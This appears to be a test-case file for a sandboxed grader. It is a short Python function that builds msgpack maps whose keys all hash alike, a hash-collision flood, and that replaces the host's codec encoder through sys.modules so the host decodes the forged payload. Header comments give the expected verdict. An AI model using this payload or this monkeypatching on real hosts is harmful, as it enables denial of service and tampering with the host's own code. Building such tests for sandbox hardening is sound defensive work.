# attack: returns dicts whose keys all hash alike, for the host to build and compare
# packages: vault vault-checked
# verdict: RE re.value
import sys

import msgpack

PRIME = (1 << 61) - 1


def seal(token, numbers):
    packer = msgpack.Packer()
    big = [msgpack.ExtType(1, (n * PRIME).to_bytes(9, "big", signed=True)) for n in range(500)]
    one = packer.pack_map_pairs([(key, None) for key in big])
    forged = packer.pack_array_header(2000) + one * 2000
    sys.modules["_readyroom.codec"].encode = lambda value: forged
    return None
